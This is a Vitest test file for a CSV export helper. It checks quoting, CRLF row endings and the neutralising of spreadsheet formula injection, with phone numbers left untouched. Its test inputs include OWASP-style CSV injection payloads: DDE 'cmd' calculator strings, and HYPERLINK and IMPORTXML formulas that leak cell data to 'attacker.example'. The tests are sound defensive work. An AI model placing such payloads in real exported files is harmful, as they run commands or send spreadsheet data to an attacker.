import { describe, expect, it } from 'vitest';
import { csvField, csvRow, neutraliseFormula } from './csv';

describe('csvField', () => {
  it.each([
    ['plain', 'Ada Lovelace', 'Ada Lovelace'],
    ['empty', '', ''],
    ['null', null, ''],
    ['undefined', undefined, ''],
    ['comma', 'Doe, Jane', '"Doe, Jane"'],
    ['quote', 'The "Analyst"', '"The ""Analyst"""'],
    ['newline', 'line 1\nline 2', '"line 1\nline 2"'],
    ['CRLF inside', 'line 1\r\nline 2', '"line 1\r\nline 2"'],
    ['only quotes', '""', '""""""'],
    ['semicolon needs no quotes', 'a;b', 'a;b'],
    ['unicode', 'Zoë 李 🎉', 'Zoë 李 🎉'],
    // Values starting with =, @, tab or CR are neutralised so a spreadsheet does not run them as a formula; so
    // are those starting with + or - unless the rest is a phone number's characters.
    ['formula =', '=HYPERLINK("http://evil","x")', '"\'=HYPERLINK(""http://evil"",""x"")"'],
    ['phone with +', '+49 30 1234', '+49 30 1234'],
    ['formula -', '-2+3', "'-2+3"],
    ['formula @', '@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['leading tab', '\t=1+1', "'\t=1+1"],
    ['leading CR', '\r=1+1', '"\'\r=1+1"'],
    ['formula with comma', '=1,2', '"\'=1,2"'],
    ['equals later is harmless', 'a=b', 'a=b'],
    ['minus later is harmless', 'Jean-Luc', 'Jean-Luc'],
    ['email with @ inside', 'ada@example.com', 'ada@example.com'],
    ['leading space then formula', ' =1', ' =1'],
  ])('%s', (_label, input, expected) => {
    expect(csvField(input)).toBe(expected);
  });
});

describe('neutraliseFormula', () => {
  it.each(['=', '+', '-', '@', '\t', '\r'])('prefixes a value starting with %j', (start) => {
    expect(neutraliseFormula(`${start}x`)).toBe(`'${start}x`);
  });

  // OWASP's CSV injection payloads (owasp.org/www-community/attacks/CSV_Injection) and their variants.
  it.each([
    '=cmd|\' /C calc\'!A0',
    '+cmd|\' /C calc\'!A0',
    '-cmd|\' /C calc\'!A0',
    '@SUM(1+9)*cmd|\' /C calc\'!A0',
    '=HYPERLINK("http://attacker.example?leak="&A1&A2,"Error: click here")',
    '=IMPORTXML(CONCAT("http://attacker.example?v=", CONCATENATE(A2:E2)), "//a")',
    '+1+1',
    '-2+3',
    '+1*2',
    '-1^2',
    '+A1',
    '-SUM(A1:A3)',
    '+49 30 1234;+1',
    '+49\u00a030', // a no-break space is not one of the phone number's characters
    '\t=1+1',
    '\r=1+1',
    '=1',
    '@A1',
  ])('neutralises %j', (payload) => {
    expect(neutraliseFormula(payload)).toBe(`'${payload}`);
  });

  // Phone numbers as people and address books write them stay exactly as typed.
  it.each(['+49 30 1234', '+1 (555) 010-9999', '+44 20 7946 0958', '+33 1.23.45.67.89', '+49 (0)30/1234-56', '-', '+', '-1', '+81 3-1234-5678'])(
    'keeps %j',
    (phone) => {
      expect(neutraliseFormula(phone)).toBe(phone);
    },
  );
  it('leaves other values alone', () => {
    expect(neutraliseFormula("'already")).toBe("'already");
    expect(neutraliseFormula('x=')).toBe('x=');
  });
});

describe('csvRow', () => {
  it('joins fields with commas and ends with CRLF', () => {
    expect(csvRow(['a', 'b, c', '=d', ''])).toBe('a,"b, c",\'=d,\r\n');
  });
});
